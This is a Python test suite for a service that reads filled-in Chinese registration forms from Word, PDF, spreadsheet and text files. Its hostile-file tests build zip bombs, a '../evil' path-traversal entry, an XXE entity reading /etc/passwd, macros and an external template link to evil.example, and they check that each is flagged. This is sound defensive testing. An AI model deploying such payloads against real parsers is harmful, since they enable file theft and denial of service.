"""Forms that people filled in, and files that are none: a reading always comes out."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from pypdf import PdfReader, PdfWriter

from service.doors.forms import FormsDoor
from service.doors.forms.package import PART_BYTES_MAX
from service.doors.press import PressDoor
from service.office.campaign import FieldKind, FormField
from service.office.form import CodeFrom, FormReading, FoundBy
from service.office.needs.press import Imprint, Value
from tests.doors.word_files import convert, fill_in, packed, parts, with_part, word

FIELDS = (
    FormField("title", "作品名称", is_title=True),
    FormField("unit", "报送单位", is_unit_name=True, synonyms=("单位名称",)),
    FormField(
        "unit_type", "单位类型", kind=FieldKind.CHOICE, choices=("获证组织", "认证机构", "有关协会", "其他")
    ),
    FormField("work_type", "作品形式", kind=FieldKind.CHOICE, choices=("视频", "图文", "案例", "其他")),
    FormField("contact", "联系人"),
    FormField("phone", "联系电话", kind=FieldKind.PHONE),
    FormField("email", "电子邮箱", is_required=False),
    FormField("finished_on", "完成日期", kind=FieldKind.DATE, is_required=False),
    FormField("about", "作品简介"),
    FormField("original", "原创承诺", kind=FieldKind.CHECKBOX),
)
ANSWERS = {
    "title": "便民服务认证“进社区” & <好>",
    "unit": "太原市市场监督管理局",
    "unit_type": "认证机构",
    "work_type": "视频",
    "contact": "张三",
    "phone": "0351-7654321转2",
    "email": "zhang@ty.example",
    "finished_on": "2024年8月20日",
    "about": "第一段介绍，服务认证让群众办事更方便。\n第二段，共三页。",
    "original": "是",
}
CODE = "ABCD-2345"
FORMS = FormsDoor()
TEMPLATE = Path(__file__).parents[2] / "templates" / "shanxi-2024-quality-weeks" / "works-form.docx"


def blank(unit: str = "") -> bytes:
    imprint = Imprint(CODE, FIELDS, "服务认证作品登记表", {"huizhi.item": "works"})
    facts: dict[str, Value] = {"code": CODE, "unit": {"name": unit}}
    return PressDoor().render(TEMPLATE.read_bytes(), "works-form.docx", facts, imprint)


def values(reading: FormReading) -> dict[str, str]:
    return {field.key: field.value for field in reading.fields}


def test_the_shipped_form_passes_lint() -> None:
    assert (
        PressDoor().lint(TEMPLATE.read_bytes(), "works-form.docx", {"code": CODE, "unit": {"name": ""}}) == ()
    )


def test_a_blank_form_gives_its_code_and_no_values() -> None:
    reading = FORMS.read(blank(), "登记表.docx", FIELDS)
    assert (reading.code, reading.fields, reading.is_blank) == (CODE, (), True)


def test_a_unit_s_name_that_we_printed_is_known_as_ours() -> None:
    reading = FORMS.read(blank("甲局"), "登记表.docx", FIELDS)
    assert values(reading) == {"unit": "甲局"}
    assert (reading.prefilled, reading.is_blank) == (("unit",), True)
    corrected = FORMS.read(fill_in(blank("甲局"), {"unit": "乙局"}), "登记表.docx", FIELDS)
    assert corrected.value("unit") == "乙局"
    assert "unit" not in corrected.prefilled
    assert not corrected.is_blank


def test_a_filled_form_gives_every_value_with_its_carrier() -> None:
    reading = FORMS.read(fill_in(blank(), ANSWERS), "登记表.docx", FIELDS)
    assert values(reading) == ANSWERS
    assert {field.found_by for field in reading.fields} == {FoundBy.TAG}
    assert reading.code == CODE
    assert reading.codes_from[0] is CodeFrom.CUSTOM_PROPERTY
    assert not reading.is_blank


def test_a_filled_form_is_read_without_knowing_its_fields() -> None:
    assert values(FORMS.read(fill_in(blank(), ANSWERS), "登记表.docx")) == ANSWERS


@pytest.mark.soffice
@pytest.mark.parametrize("way", ["docx", "doc", "odt", "rtf"])
def test_a_filled_form_survives_libreoffice_and_back(way: str, tmp_path: Path) -> None:
    data = fill_in(blank(), ANSWERS)
    once = convert(data, "docx", way, tmp_path)
    (tmp_path / "back").mkdir()
    back = convert(once, way, "docx", tmp_path / "back")
    reading = FORMS.read(back, "登记表.docx", FIELDS)
    assert values(reading) == ANSWERS
    assert reading.code == CODE
    if way == "doc":
        for name in ("登记表.doc", "登记表.wps"):
            old = FORMS.read(once, name, FIELDS)
            assert values(old) == ANSWERS
            assert old.code == CODE


@pytest.mark.soffice
def test_a_filled_form_survives_printing_to_pdf(tmp_path: Path) -> None:
    reading = FORMS.read(convert(fill_in(blank(), ANSWERS), "docx", "pdf", tmp_path), "登记表.pdf", FIELDS)
    assert values(reading) == ANSWERS
    assert reading.code == CODE


@pytest.mark.soffice
def test_a_blank_form_printed_or_saved_as_doc_stays_blank(tmp_path: Path) -> None:
    named = FORMS.read(convert(blank("甲局"), "docx", "doc", tmp_path), "登记表.doc", FIELDS)
    assert (named.prefilled, named.is_blank) == (("unit",), True)
    for to in ("pdf", "doc"):
        reading = FORMS.read(convert(blank(), "docx", to, tmp_path), f"登记表.{to}", FIELDS)
        assert (reading.code, reading.fields, reading.is_blank) == (CODE, (), True)


def test_a_form_typed_anew_is_read_by_its_labels() -> None:
    data = word(
        "作品登记表",
        "作品简介：很好的作品",
        table=[
            ["作 品　名 称", "甲作品"],
            ["联 系　人：", "李四"],
            ["1、联系电话*", "\t13800000000"],
            ["报送单位", "联系人"],
        ],
    )
    reading = FORMS.read(data, "a.docx", FIELDS)
    found = {field.key: (field.value, field.found_by) for field in reading.fields}
    assert found == {
        "title": ("甲作品", FoundBy.LABEL),
        "contact": ("李四", FoundBy.LABEL),
        "phone": ("13800000000", FoundBy.LABEL),
        "about": ("很好的作品", FoundBy.PARAGRAPH),
    }


def test_answers_below_a_row_of_labels_are_read() -> None:
    data = word("表", table=[["作品名称", "报送单位", "联系人"], ["甲作品", "甲局", "李四"]])
    reading = FORMS.read(data, "a.docx", FIELDS)
    assert values(reading) == {"title": "甲作品", "unit": "甲局", "contact": "李四"}
    assert {field.found_by for field in reading.fields} == {FoundBy.TABLE}


def test_a_form_nobody_described_gives_pairs_by_their_printed_labels() -> None:
    reading = FORMS.read(word("表", table=[["姓名：", "李四", "职务", "处长"]]), "a.docx")
    assert values(reading) == {"姓名": "李四", "职务": "处长"}


def test_two_carriers_with_different_codes_are_both_shown() -> None:
    data = with_part(blank(), "word/document.xml", lambda xml: xml.replace(b"ABCD-2345", b"EFGH-6789"))
    reading = FORMS.read(data, "a.docx", FIELDS)
    assert set(reading.codes) == {"ABCD-2345", "EFGH-6789"}
    assert reading.code is None


def test_a_standard_s_number_in_the_text_is_not_taken_for_a_second_code() -> None:
    reading = FORMS.read(fill_in(blank(), {"about": "依据 GBTX-2345 标准"}), "a.docx", FIELDS)
    assert reading.code == CODE


def test_headings_text_and_pictures_of_a_summary() -> None:
    data = word(
        "宣传周工作总结",
        "一、开展情况",
        "我局高度重视，开展了活动。",
        "（二）活动效果。群众参加踊跃。",
        "典型案例",
        "3.相关图片：见下",
    )
    reading = FORMS.read(data, "总结.docx", ())
    assert {"开展情况", "活动效果", "典型案例", "相关图片"} <= set(reading.headings)
    assert "我局高度重视，开展了活动。" in reading.text
    assert not any("我局" in head for head in reading.headings)
    assert reading.pictures == 0


def test_deleted_text_does_not_count() -> None:
    def deleted(xml: bytes) -> bytes:
        return xml.replace(
            "甲作品".encode(),
            "乙作品</w:t></w:r><w:del><w:r><w:delText>甲作品</w:delText></w:r></w:del><w:r><w:t>".encode(),
        )

    data = with_part(word("表", table=[["作品名称", "甲作品"]]), "word/document.xml", deleted)
    assert values(FORMS.read(data, "a.docx", FIELDS)) == {"title": "乙作品"}


def test_a_workbook_is_read_by_its_labels() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["作品登记表"])
    sheet.append(["编号：ABCD-2345"])
    sheet.append(["作品名称", None, "甲作品", "联系电话", 13800000000])
    sheet.merge_cells("A3:B3")
    sheet.append(["联系人："])
    sheet.append(["报送单位：甲局"])
    out = io.BytesIO()
    book.save(out)
    reading = FORMS.read(out.getvalue(), "登记表.xlsx", FIELDS)
    assert values(reading) == {"title": "甲作品", "phone": "13800000000", "unit": "甲局"}
    assert reading.code == CODE


def test_a_plain_text_file_is_read_in_its_own_charset() -> None:
    for charset in ("utf-8-sig", "gb18030"):
        reading = FORMS.read("作品名称：甲作品\n联系人：李四".encode(charset), "登记.txt", FIELDS)
        assert values(reading) == {"title": "甲作品", "contact": "李四"}


def test_a_scan_and_a_locked_pdf_are_named() -> None:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    assert FORMS.read(out.getvalue(), "扫描.pdf", FIELDS).flags == ("no-text",)
    locked = PdfWriter(clone_from=PdfReader(io.BytesIO(out.getvalue())))
    locked.encrypt("secret", algorithm="RC4-128")
    shut = io.BytesIO()
    locked.write(shut)
    assert FORMS.read(shut.getvalue(), "加密.pdf", FIELDS).flags == ("encrypted",)


def _bomb(name: str, size: int) -> bytes:
    return with_part(word("正文"), name, lambda _: b"\0" * size)


@pytest.mark.parametrize(
    ("data", "flag"),
    [
        (_bomb("word/media/image1.png", 60 * 2**20), "bomb"),
        (_bomb("word/document.xml", 17 * 2**20), "bomb"),
        (packed({f"word/{n}.bin": b"" for n in range(2100)}), "bomb"),
        (packed({"word/document.xml": b"<a/>", "../evil": b""}), "unreadable"),
        (packed({"word/document.xml": b"<a/>", "WORD/document.xml": b"<b/>"}), "unreadable"),
        (packed({"word/document.xml": b"<a>" * 9000}), "unreadable"),
        (
            packed(
                {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
            ),
            "unreadable",
        ),
        (packed({"word/document.xml": "<!DOCTYPE a><a>x</a>".encode("utf-16")}), "unreadable"),
        (b"PK\x03\x04 torn", "unreadable"),
        (b"plain bytes", "unreadable"),
        (b"%PDF-1.7 torn", "unreadable"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "unreadable"),
    ],
)
def test_hostile_and_damaged_files_are_named_and_not_opened(data: bytes, flag: str) -> None:
    reading = FORMS.read(data, "a.docx", FIELDS)
    assert flag in reading.flags
    assert "root:" not in reading.text


def test_a_size_that_lies_is_not_believed() -> None:
    data = bytearray(word("正文" * 1000))
    assert len(data) < PART_BYTES_MAX
    at = data.rindex(b"word/document.xml") - 46
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    assert "unreadable" in FORMS.read(bytes(data), "a.docx", FIELDS).flags


def test_macros_and_outside_templates_are_flagged() -> None:
    assert (
        "macro" in FORMS.read(with_part(word("正文"), "word/vbaProject.bin", lambda _: b"x"), "a.docm").flags
    )

    def outside(xml: bytes) -> bytes:
        link = (
            b'<Relationship Id="rId77" TargetMode="External" Target="http://evil.example/a.dotm" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
        )
        return xml.replace(b"</Relationships>", link)

    data = with_part(word("正文"), "word/_rels/document.xml.rels", outside)
    assert "external" in FORMS.read(data, "a.docx").flags


def test_a_zip_with_a_password_is_named() -> None:
    data = bytearray(packed({"word/document.xml": b"<a/>"}))
    data[6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    assert FORMS.read(bytes(data), "a.docx").flags == ("encrypted",)


def test_an_empty_zip_and_other_zips_are_no_form() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w"):
        pass
    assert FORMS.read(out.getvalue(), "a.zip").fields == ()
    assert FORMS.read(packed({"照片/1.jpg": b"x"}), "照片.zip") == FormReading()
    assert parts(packed({"a": b"b"})) == {"a": b"b"}


def test_tables_in_tables_do_not_multiply_their_text() -> None:
    deep = (
        "<w:tbl><w:tr><w:tc>" * 60
        + "<w:p><w:r><w:t>甲</w:t></w:r></w:p>" * 40_000
        + "</w:tc></w:tr></w:tbl>" * 60
    )

    def nested(xml: bytes) -> bytes:
        return xml.replace(b"<w:sectPr", deep.encode() + b"<w:sectPr", 1)

    before = time.monotonic()
    reading = FORMS.read(with_part(word("正文"), "word/document.xml", nested), "a.docx", FIELDS)
    assert reading.fields == ()
    assert time.monotonic() - before < 20


@pytest.mark.parametrize("mark", ["☑", "√", "■"])
def test_a_tick_typed_over_the_box_counts(mark: str) -> None:
    filled = with_part(
        fill_in(blank("甲局"), {"title": "甲"}),
        "word/document.xml",
        lambda xml: xml.replace(b"&#9744;", mark.encode("ascii", "xmlcharrefreplace"), 1),
    )
    assert values(FORMS.read(filled, "登记表.docx", FIELDS))["original"] == "是"
